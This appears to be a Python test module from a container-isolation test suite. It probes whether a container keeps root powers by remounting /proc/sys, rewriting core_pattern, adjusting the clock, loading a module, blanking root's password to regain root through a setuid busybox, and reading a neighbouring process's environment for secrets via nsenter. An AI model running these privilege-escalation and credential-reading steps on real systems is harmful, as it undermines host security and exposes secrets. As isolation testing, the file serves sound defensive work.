"""The attack of chapter 09: use root's great powers, and gain them anew where they were given up.

Each attempt asks the kernel for something that only a great power allows, in a way that changes
nothing: the core pattern, the clock's pace and the adapter's size get the value that they have, and
the module is no module.
"""

from __future__ import annotations

import os
import subprocess
import threading
from pathlib import Path

from chapters.ground import Ground, Missing


def undo_read_only(ground: Ground) -> bool:
    """make /proc/sys writable again, and change what the host does when a program crashes"""
    script = """
        mount -o remount,rw /proc/sys
        pattern=$(cat /proc/sys/kernel/core_pattern)
        echo "$pattern" >/proc/sys/kernel/core_pattern && echo "written"
    """
    return "written" in ground.run(script)


def set_the_clock(ground: Ground) -> bool:
    """change the pace of the host's clock"""
    needs(ground, "adjtimex")
    script = r"""
        tick=$(adjtimex | sed -n 's/.*tick: *\([0-9]*\).*/\1/p')
        adjtimex -q -t "$tick" && echo "changed"
    """
    return "changed" in ground.run(script)


def change_the_network(ground: Ground) -> bool:
    """change an adapter of the host"""
    needs(ground, "ip")
    script = """
        ip link set lo mtu "$(cat /sys/class/net/lo/mtu)" && echo "changed"
    """
    return "changed" in ground.run(script)


def load_a_module(ground: Ground) -> bool:
    """have the kernel look at a module of ours"""
    needs(ground, "insmod")
    off = Path("/proc/sys/kernel/modules_disabled")
    if not os.path.exists("/proc/modules") or off.read_text() != "0\n":
        raise Missing("this kernel loads no modules")
    script = """
        echo "no module" >/tmp/mine.ko
        insmod /tmp/mine.ko 2>&1 | grep -q "not permitted" || echo "it looked"
    """
    return "it looked" in ground.run(script)


def regain_by_set_user_id(ground: Ground) -> bool:
    """become an ordinary user, then root again by a set-user-ID program, and mount"""
    needs(ground, "su")
    # su asks no password of a root that has none. The program keeps the bit and its owner.
    script = """
        sed -i "s/^root:x:/root::/" /etc/passwd
        mkdir -p /opt/own /mnt
        cp /bin/busybox /opt/own/busybox
        chmod 4755 /opt/own/busybox
        su app -s /bin/sh -c "/opt/own/busybox su root -s /bin/sh -c \\
            'mount -t tmpfs none /mnt && echo mounted'"
    """
    return "mounted" in ground.run(script)


def look_into_a_neighbour(ground: Ground) -> bool:
    """trace a process of more powers: a shell that an administrator has opened in the container"""
    token, over = f"chapter-09-{os.getpid()}", threading.Event()
    # Whoever may read its environment may attach to it and have it do anything (ptrace(2)).
    script = """
        tries=0
        while [ $tries -lt 20000 ]; do
            tries=$((tries + 1))
            for process in /proc/[0-9]*; do
                read name <$process/comm && [ "$name" = sleep ] && break 2
            done
        done 2>/dev/null
        echo "the neighbour is $name"
        cat $process/environ
    """
    visitor = threading.Thread(target=visit, args=(token, over))
    visitor.start()
    try:
        told = ground.run(script, token)
    finally:
        over.set()
        visitor.join()
    if "the neighbour is sleep" not in told:
        raise RuntimeError("nobody has come into the container")
    return "SECRET=" in told


def visit(token: str, over: threading.Event) -> None:
    """Go into the container whose program has the token as an argument, with all powers of ours."""
    while not over.is_set():
        for process in Path("/proc").glob("[0-9]*"):
            try:
                words = (process / "cmdline").read_bytes().split(b"\0")
                # The stage's own process has the same words, until it is the program.
                if token.encode() not in words or (process / "comm").read_text() != "sh\n":
                    continue
                numbers = (process / "status").read_text().partition("NSpid:")[2].splitlines()[0]
            except (FileNotFoundError, ProcessLookupError):
                continue
            if numbers.split()[1:] == ["1"]:
                enter = ["nsenter", "--all", "--target", process.name, "sleep", "1000"]
                path = "/usr/sbin:/usr/bin:/sbin:/bin"
                subprocess.run(enter, env={"PATH": path, "SECRET": "1"}, check=False)
                return


def needs(ground: Ground, applet: str) -> None:
    """Missing, unless the root has a program that busybox brings."""
    places = [ground.rootfs / directory / applet for directory in ("bin", "sbin", "usr/sbin")]
    if not any(os.path.lexists(place) for place in places):
        raise Missing(f"the root has no {applet}; busybox brings it")


ATTACKS = (
    undo_read_only,
    set_the_clock,
    change_the_network,
    load_a_module,
    regain_by_set_user_id,
    look_into_a_neighbour,
)
